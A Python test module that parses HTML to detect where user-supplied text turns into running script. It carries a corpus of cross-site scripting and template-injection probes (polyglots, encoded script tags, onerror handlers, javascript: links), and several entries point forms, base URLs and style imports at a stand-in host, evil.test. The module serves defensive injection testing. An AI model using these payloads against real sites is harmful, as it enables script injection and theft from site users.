"""What a page would run, as a browser's parser sees it, and values that try to get something run."""

from __future__ import annotations

import json
from html.parser import HTMLParser

# No element of ours: where the parser meets it, something came out of its quotes.
MARK = "pwn"
# Out of text, of either quotes, of what swallows tags, of a comment; and at the start what runs as an address.
LONG = f"javascript:/*\"'></title></textarea></script></style>--><{MARK} onx=p()><img src=x onerror=p()>{{{{7*7}}}}</{MARK}>"
SHORT = f"javascript:\"'><{MARK} onx=p()>"
CORPUS = (
    LONG,
    "<script>p()</script>",
    "<ScRiPt/x>p()</sCrIpT>",
    "<img src=x onerror=p()>",
    '" autofocus onfocus=p() x="',
    "' onmouseover=p() x='",
    "<svg/onload=p()>",
    "<math><mi//xlink:href='javascript:p()'>",
    "<iframe srcdoc='<script>p()</script>'>",
    "</script><script>p()</script>",
    "]]><script>p()</script>",
    "<!--><img src=x onerror=p()>-->",
    "[x](javascript:p())",
    "[x](JaVaScRiPt&#58;p())",
    "[x](data:text/html,<script>p()</script>)",
    '![x](x"onerror="p())',
    "javascript:p()//https://sudominio.com.ar",
    'https://sudominio.com.ar/"onmouseover="p()',
    "https://sudominio.com.ar/'><script>p()</script>",
    "java\tscript:p()",
    "&lt;script&gt;p()&lt;/script&gt;",
    "\u003cscript\u003ep()\u003c/script\u003e",
    "%3Cscript%3Ep()%3C/script%3E",
    "<base href=//evil.test>",
    "<form action=//evil.test><button>x",
    "<meta http-equiv=refresh content='0;url=javascript:p()'>",
    "<a href=javascript:p()>x</a>",
    "<style>@import'//evil.test'</style>",
    "{{config}}{% print(1) %}${7*7}<%= 7*7 %>",
)
_ADDRESSES = frozenset(
    {
        "href",
        "src",
        "action",
        "formaction",
        "xlink:href",
        "data",
        "poster",
        "cite",
        "ping",
        "hx-get",
        "hx-post",
        "hx-put",
        "hx-delete",
    }
)
_NEVER = frozenset({MARK, "base", "iframe", "object", "embed", "svg:script", "frame", "applet"})
_RUNS = ("javascript:", "vbscript:", "data:")


class Page(HTMLParser):
    """``faults``: what somebody's words made of the page. ``shows_mark``: whether such words are on it at all."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.forms: list[dict[str, object]] = []
        self._data_block: str | None = None
        self.shows_mark = f"<{MARK}" in text or f"&lt;{MARK}" in text or f"\\u003c{MARK}" in text
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in _NEVER:
            self.faults.append(f"<{tag}>")
        self.faults += [f"<{tag} {name}>" for name in given if name.startswith(("on", "hx-on", "srcdoc", "style"))]
        for name in _ADDRESSES & set(given):
            # Browsers drop control characters and white space before they look at the scheme (WHATWG URL, 4.4).
            scheme = "".join(sign for sign in given[name] if sign > " ").lower()
            if scheme.startswith(_RUNS) and not scheme.startswith("data:image/"):
                self.faults.append(f"<{tag} {name}={given[name][:40]}>")
        if tag == "meta" and given.get("http-equiv", "").lower() == "refresh" and MARK in given.get("content", ""):
            self.faults.append("<meta refresh>")
        if tag == "script" and "src" not in given:
            self._data_block = given.get("type", "text/javascript")
        if tag == "form":
            self.forms.append({"action": given.get("action", ""), "method": given.get("method", "get").lower(), "fields": {}})
        elif tag in ("input", "textarea", "select", "button") and self.forms and given.get("name"):
            fields = self.forms[-1]["fields"]
            kind = given.get("type", "text") if tag == "input" else tag
            fields[given["name"]] = (kind, given.get("value", ""))  # type: ignore[index]

    def handle_data(self, data: str) -> None:
        if self._data_block is not None:
            if self._data_block not in ("application/json", "application/ld+json"):
                self.faults.append(f"<script> inline: {data[:40]}")
            else:
                json.loads(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._data_block = None
